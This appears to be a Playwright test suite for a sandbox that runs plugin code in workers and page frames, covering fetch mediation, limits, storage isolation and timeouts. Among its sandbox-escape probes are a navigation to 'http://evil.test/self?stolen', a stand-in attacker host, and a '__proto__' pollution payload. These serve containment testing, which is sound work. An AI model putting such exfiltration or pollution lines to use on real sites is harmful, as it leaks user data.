import { startChangingProxy } from '../fixtures/changing-proxy.ts';
import { addRealm, runCode } from '../fixtures/realm.ts';
import { expect, test } from '../fixtures/test.ts';
import { serverUrl } from '../server-address.ts';

/** Small plugins, each written in another of the ways that are found in the wild. */
const formsOfCode: readonly (readonly [what: string, code: string, value: unknown])[] = [
  [
    'arguments taken apart, beside a helper',
    'const twice = (n) => n * 2; async function run({ a, b = 2 }, { key }, { previousRunOutput }) { return [twice(a), b, key, previousRunOutput]; }',
    [2, 2, 'k', 'before'],
  ],
  ['a plain function', 'function run(params, settings) { return params.a + settings.key; }', '1k'],
  [
    'a function in a constant',
    'const run = async (params) => ({ sum: params.a + 1 });',
    { sum: 2 },
  ],
  [
    'a function of the global object',
    'globalThis.run = function () { return this === undefined || this === globalThis; };',
    true,
  ],
  [
    'a body that returns by itself',
    'const twice = params.a * 2;\nreturn twice + userSettings.key; // end',
    '2k',
  ],
  ['a body that waits', 'return await Promise.resolve(params.a);', 1],
  [
    'names of the arguments declared anew',
    'const params = 7; let resources = 1; function run() { return params + resources; }',
    8,
  ],
  ['an interpreter', 'async function run({ code }) { return String(await eval(code)); }', '42'],
  ['nothing', 'function run() {}', null],
];

for (const realm of ['worker', 'page'] as const) {
  test.describe(`in a ${realm}`, () => {
    test.beforeEach(async ({ page }) => {
      await page.goto('/changelog.html');
      await addRealm(page);
    });

    test('a function is called in each way that plugins declare one', async ({ page }) => {
      for (const [what, code, value] of formsOfCode) {
        const run = await runCode(page, {
          realm,
          code,
          params: { a: 1, code: '6 * 7' },
          settings: { key: 'k' },
          resources: { previousRunOutput: 'before' },
        });
        expect(run.result, what).toEqual({ ok: true, value });
        expect(run.frames, 'frames that are left').toBe(0);
      }
    });

    test('what is thrown is told in its own words', async ({ page }) => {
      const codes: readonly (readonly [code: string, text: string | RegExp])[] = [
        ['function run() { throw "No key."; }', 'No key.'],
        ['async function run() { throw new Error("401"); }', '401'],
        [
          'function run() { return new Promise((_, no) => setTimeout(() => no(new TypeError("x")))); }',
          'TypeError: x',
        ],
        ['function run() { throw { code: 7 }; }', '{"code":7}'],
        ['function run() { throw { get message() { throw 1; } }; }', /cannot be put into words/],
        ['function walk() {}', 'The code has no function “run”.'],
        ['function run( {', /^SyntaxError/],
        [`function run() { throw "${'x'.repeat(900)}"; }`, 'x'.repeat(500)],
      ];
      for (const [code, text] of codes) {
        const { result } = await runCode(page, { realm, code });
        expect(result).toEqual({
          ok: false,
          error: {
            code: 'threw',
            text: typeof text === 'string' ? text : expect.stringMatching(text),
          },
        });
      }
    });

    test('a result is plain, whatever was returned', async ({ page }) => {
      const { result } = await runCode(page, {
        realm,
        code: `function run() {
          const self = { name: 'self' };
          self.self = self;
          return {
            self, method() {}, list: [() => 1, undefined, NaN, 3n], date: new Date(0),
            map: new Map([['a', 1]]), set: new Set([2]), error: new RangeError('far'),
            bytes: new Uint8Array([104, 105]), file: new Blob(['hi'], { type: 'text/plain' }),
            ['__proto__']: { polluted: true },
            element: typeof document === 'undefined' ? '<b></b>' : document.createElement('b'),
          };
        }`,
      });
      expect(result).toEqual({
        ok: true,
        value: {
          self: { name: 'self', self: '[Circular]' },
          list: [null, null, null, '3'],
          date: '1970-01-01T00:00:00.000Z',
          map: { a: 1 },
          set: [2],
          error: 'RangeError: far',
          bytes: 'data:application/octet-stream;base64,aGk=',
          file: 'data:text/plain;base64,aGk=',
          element: '<b></b>',
        },
      });
    });

    test('a result of more than 32 MB, or nested without end, is none', async ({ page }) => {
      const large = await runCode(page, { realm, code: 'return "x".repeat(32_000_001);' });
      expect(large.result).toEqual({ ok: false, error: { code: 'too-large', text: '' } });
      const gaps = await runCode(page, { realm, code: 'return new Array(2 ** 32 - 1);' });
      expect(gaps.result).toMatchObject({ error: { code: 'too-large' } });
      const deep = await runCode(page, {
        realm,
        code: 'let value = 1; for (let at = 0; at < 5000; at += 1) value = [value]; return value;',
      });
      expect(deep.result).toMatchObject({
        error: { code: 'threw', text: 'The result is nested too deeply.' },
      });
      const fits = await runCode(page, { realm, code: 'return "x".repeat(31_000_000);' });
      expect(String(fits.result.value)).toHaveLength(31_000_000);
    });

    test('a request goes through the outlet alone, as the browser would send it', async ({
      page,
    }) => {
      const run = await runCode(page, {
        realm,
        answers: {
          'https://api.test/json': {
            headers: [['content-type', 'application/json']],
            pieces: ['{"a":', '1}'],
          },
          'https://api.test/stream': { pieces: ['one ', 'two ', 'three'] },
          'https://api.test/old': { url: 'https://api.test/new', status: 404, pieces: ['gone'] },
          'https://api.test/empty': { status: 204 },
          'https://api.test/refused': { fails: 'The user did not allow a request to api.test.' },
        },
        code: `async function run() {
          const out = {};
          const json = await fetch('https://api.test/json', {
            method: 'post', headers: { Authorization: 'Bearer {KEY}', 'Content-Type': 'application/json' },
            body: JSON.stringify({ q: 'ä' }),
          });
          out.json = [json.ok, json.status, json.url, json.redirected, json.headers.get('Content-Type'), (await json.clone().json()).a, await json.text()];
          const reader = (await fetch(new Request('https://api.test/stream'))).body.getReader();
          out.stream = '';
          for (let piece; !(piece = await reader.read()).done;) out.stream += new TextDecoder().decode(piece.value);
          const old = await fetch(new URL('https://api.test/old'));
          out.old = [old.ok, old.status, old.url, old.redirected, await (await old.blob()).text()];
          out.empty = (await fetch('https://api.test/empty', { method: 'DELETE' })).status;
          const form = new FormData();
          form.append('file', new Blob([new Uint8Array([255, 0])], { type: 'image/png' }), 'a.png');
          await fetch('https://api.test/empty', { method: 'POST', body: form });
          await fetch('https://api.test/empty', { method: 'POST', body: new URLSearchParams({ a: 'b c' }) });
          out.refused = await fetch('https://api.test/refused').catch((error) => [error.name, error.message]);
          out.scheme = await fetch('ftp://api.test/').catch((error) => error.name);
          out.invalid = await fetch('https://user:pass@api.test/').catch((error) => error.name);
          const stop = new AbortController();
          stop.abort();
          out.aborted = await fetch('https://api.test/json', { signal: stop.signal }).catch((error) => error.name);
          out.data = await (await fetch('data:text/plain;base64,aGk=')).text();
          out.percent = await (await fetch('data:,a%20b%zz')).text();
          const address = URL.createObjectURL(new Blob(['[1]'], { type: 'application/json' }));
          const blob = await fetch(address);
          out.blob = [blob.headers.get('content-type'), await blob.json()];
          URL.revokeObjectURL(address);
          out.revoked = await fetch(address).catch((error) => error.name);
          return out;
        }`,
      });
      expect(run.result).toEqual({
        ok: true,
        value: {
          json: [true, 200, 'https://api.test/json', false, 'application/json', 1, '{"a":1}'],
          stream: 'one two three',
          old: [false, 404, 'https://api.test/new', true, 'gone'],
          empty: 204,
          refused: ['TypeError', 'The user did not allow a request to api.test.'],
          scheme: 'TypeError',
          invalid: 'TypeError',
          aborted: 'AbortError',
          data: 'hi',
          percent: 'a b%zz',
          blob: ['application/json', [1]],
          revoked: 'TypeError',
        },
      });
      const asked = run.orders.filter(({ kind }) => kind === 'fetch');
      const [json, , , , form, parameters] = asked;
      expect(json).toMatchObject({
        kind: 'fetch',
        url: 'https://api.test/json',
        method: 'POST',
        headers: [
          ['authorization', 'Bearer {KEY}'],
          ['content-type', 'application/json'],
        ],
        body: '{"q":"ä"}',
      });
      expect(form?.['headers']).toEqual([
        ['content-type', expect.stringMatching(/^multipart\/form-data; boundary=/)],
      ]);
      expect(form?.['body'], 'bytes').toEqual(expect.any(Object));
      expect(parameters).toMatchObject({ body: 'a=b+c' });
      expect(new Set(asked.map(({ id }) => id)).size).toBe(asked.length);
    });

    test('a request that is given up is given up at the outlet', async ({ page }) => {
      const run = await runCode(page, {
        realm,
        answers: { 'https://api.test/slow': { isOpen: true, pieces: ['first'] } },
        code: `async function run() {
          const stop = new AbortController();
          const answer = await fetch('https://api.test/slow', { signal: stop.signal });
          const reader = answer.body.getReader();
          const first = new TextDecoder().decode((await reader.read()).value);
          stop.abort();
          const second = await reader.read().catch((error) => error.name);
          const other = await fetch('https://api.test/slow');
          await other.body.cancel();
          return [first, second];
        }`,
      });
      expect(run.result.value).toEqual(['first', 'AbortError']);
      expect(run.orders.map(({ kind, id }) => [kind, id])).toEqual([
        ['fetch', 1],
        ['abort', 1],
        ['fetch', 2],
        ['abort', 2],
      ]);
    });

    test('old requests work as they did, but not in a synchronous way', async ({ page }) => {
      const run = await runCode(page, {
        realm,
        answers: {
          'https://api.test/a': {
            headers: [
              ['x-a', 'b'],
              ['content-type', 'application/json'],
            ],
            pieces: ['{"a":', '"ä"}'],
          },
          'https://api.test/slow': { isOpen: true },
          'https://api.test/bad': { fails: 'No.' },
        },
        code: `
          const ask = (url, set = () => {}) => new Promise((resolve) => {
            const request = new XMLHttpRequest();
            const seen = [];
            request.onreadystatechange = () => seen.push(request.readyState);
            for (const name of ['load', 'error', 'abort', 'timeout']) {
              request.addEventListener(name, ({ type }) => seen.push(type));
            }
            request.onloadend = () => resolve({ request, seen });
            request.open('POST', url);
            set(request);
            request.send('body');
            if (request.stops) request.abort();
          });
          async function run() {
            const text = await ask('https://api.test/a', (request) => request.setRequestHeader('X-Q', 'q'));
            const { request } = text;
            const json = await ask('https://api.test/a', (request) => { request.responseType = 'json'; });
            const bytes = await ask('https://api.test/a', (request) => { request.responseType = 'arraybuffer'; });
            const bad = await ask('https://api.test/bad');
            const late = await ask('https://api.test/slow', (request) => { request.timeout = 20; });
            const stopped = await ask('https://api.test/slow', (request) => { request.stops = true; });
            let sync = 'sent';
            try { new XMLHttpRequest().open('GET', 'https://api.test/a', false); } catch (error) { sync = error.name; }
            return [
              [text.seen.filter((one, at, all) => one !== all[at - 1]), request.status, request.responseText, request.responseURL, request.getResponseHeader('X-A'), request.getAllResponseHeaders()],
              json.request.response, bytes.request.response.byteLength,
              bad.seen, bad.request.status, late.seen, stopped.seen, sync, XMLHttpRequest.DONE,
            ];
          }`,
      });
      expect(run.result.value).toEqual([
        [
          [1, 2, 3, 4, 'load'],
          200,
          '{"a":"ä"}',
          'https://api.test/a',
          'b',
          'content-type: application/json\r\nx-a: b\r\n',
        ],
        { a: 'ä' },
        10,
        [1, 4, 'error'],
        0,
        [1, 2, 4, 'timeout'],
        [1, 4, 'abort'],
        'InvalidAccessError',
        4,
      ]);
      expect(run.orders[0]).toMatchObject({ method: 'POST', body: 'body' });
      expect(run.orders[0]?.['headers']).toContainEqual(['x-q', 'q']);
    });

    test('storage is empty with each run, and the console reports its first 200 lines', async ({
      page,
    }) => {
      const code = `function run() {
        const before = localStorage.length + sessionStorage.length;
        localStorage.setItem('a', 1);
        localStorage.b = 'two';
        sessionStorage.setItem('c', {});
        delete localStorage.a;
        for (let line = 0; line < 300; line += 1) console.warn('line', line, { line });
        Promise.reject(new Error('nobody hears it'));
        return [before, localStorage.length, localStorage.b, localStorage.getItem('b'), localStorage.getItem('none'), Object.keys(localStorage), localStorage.key(0), sessionStorage.c];
      }`;
      const runs = [await runCode(page, { realm, code }), await runCode(page, { realm, code })];
      for (const run of runs) {
        expect(run.result.value).toEqual([0, 1, 'two', 'two', null, ['b'], 'b', '[object Object]']);
        expect(run.logs).toHaveLength(200);
        expect(run.logs[7]).toBe('warn: line 7 {"line":7}');
      }
    });

    test('progress and growing text come out while it runs', async ({ page }) => {
      const run = await runCode(page, {
        realm,
        code: `async function run() {
          for (let step = 0; step < 100_000; step += 1) parley.progress('step ' + step, step / 1e5);
          for (const word of ['a', 'b', 'c']) { parley.chunk(word); await new Promise((go) => setTimeout(go)); }
          await new Promise((go) => setTimeout(go, 150));
          parley.progress('x'.repeat(300));
          await new Promise((go) => setTimeout(go, 250));
        }`,
      });
      expect(run.chunks).toBe('abc');
      expect(run.progress).toEqual(['step 99999 0.99999', 'x'.repeat(200)]);
    });

    test('Stop takes the frame away at once', async ({ page }) => {
      const run = await runCode(page, {
        realm,
        stopsAtProgress: true,
        code: 'async function run() { parley.progress("now"); await new Promise(() => {}); }',
      });
      expect(run.result).toEqual({ ok: false, error: { code: 'stopped', text: '' } });
      expect(run.frames).toBe(0);
    });

    test('without a sign of life it ends, and a request is one', async ({ page }) => {
      const silent = await runCode(page, {
        realm,
        silentMs: 1500,
        code: 'async function run() { await new Promise(() => {}); }',
      });
      expect(silent.result).toEqual({
        ok: false,
        error: { code: 'timeout', text: '', afterMs: 1500 },
      });
      const alive = await runCode(page, {
        realm,
        silentMs: 1500,
        answers: { 'https://api.test/': {} },
        code: `async function run() {
          for (let at = 0; at < 5; at += 1) {
            await new Promise((go) => setTimeout(go, 500));
            await fetch('https://api.test/');
          }
          return 'alive';
        }`,
      });
      expect(alive.result).toEqual({ ok: true, value: 'alive' });
    });
  });
}

test('a worker that closes itself and a page that goes elsewhere end by their silence', async ({
  page,
  guards,
  trap,
}) => {
  guards.expectText(/^console: /);
  guards.expectText(/evil\.test/);
  await page.goto('/changelog.html');
  await addRealm(page);
  const ends = [
    ['worker', 'self.close()'],
    ['page', 'location.href = "/health"'],
    ['page', 'location.href = "data:text/html,x"'],
    ['page', 'location.href = "http://evil.test/self?stolen"'],
    ['page', 'location.href = URL.createObjectURL(new Blob(["x"], { type: "text/html" }))'],
  ] as const;
  const runs = await Promise.all(
    ends.map(([realm, end]) =>
      runCode(page, {
        realm,
        silentMs: 2000,
        code: `function run() { ${end}; return new Promise(() => {}); }`,
      }),
    ),
  );
  for (const { result } of runs) expect(result).toMatchObject({ error: { code: 'timeout' } });
  expect(page.url()).toMatch(/changelog\.html$/);
  expect(trap.hits()).toEqual([]);
});

test('code that wants a document asks for a page, and has one there', async ({ page }) => {
  await page.goto('/changelog.html');
  await addRealm(page);
  const code =
    'function run() { document.body.innerHTML = "<p>hi</p>"; return [document.body.textContent, innerWidth]; }';
  expect((await runCode(page, { code })).result).toMatchObject({ error: { code: 'needs-page' } });
  expect((await runCode(page, { code, realm: 'page' })).result.value).toEqual(['hi', 1]);
  const drawn =
    'async function run() { return typeof (await new Promise(requestAnimationFrame)); }';
  expect((await runCode(page, { code: drawn, realm: 'page' })).result.value).toBe('number');
  const other = 'function run() { return neverDeclared; }';
  expect((await runCode(page, { code: other })).result).toMatchObject({ error: { code: 'threw' } });
});

test('a loop in a worker dies with its frame, and the page is at work meanwhile', async ({
  page,
}) => {
  await page.goto('/changelog.html');
  await addRealm(page);
  const { result, frames } = await runCode(page, {
    silentMs: 1500,
    code: 'function run() { for (;;); }',
  });
  expect(result).toMatchObject({ error: { code: 'timeout' } });
  expect(frames).toBe(0);
});

test('where the browser starts no worker in the frame, that is said', async ({ page, guards }) => {
  const proxy = await startChangingProxy(serverUrl, (_path, answer) => {
    const policy = answer.headers['content-security-policy'];
    const changed = String(policy).replace('worker-src blob:', "worker-src 'none'");
    return { ...answer, headers: { ...answer.headers, 'content-security-policy': changed } };
  });
  guards.allowOrigin(proxy.url);
  guards.expectText(/worker/i);
  await page.goto(`${proxy.url}/changelog.html`);
  await addRealm(page);
  const { result } = await runCode(page, { code: 'return 1;' });
  expect(result).toEqual({ ok: false, error: { code: 'no-worker', text: '' } });
  expect((await runCode(page, { code: 'return 1;', realm: 'page' })).result.value).toBe(1);
  await proxy.close();
});
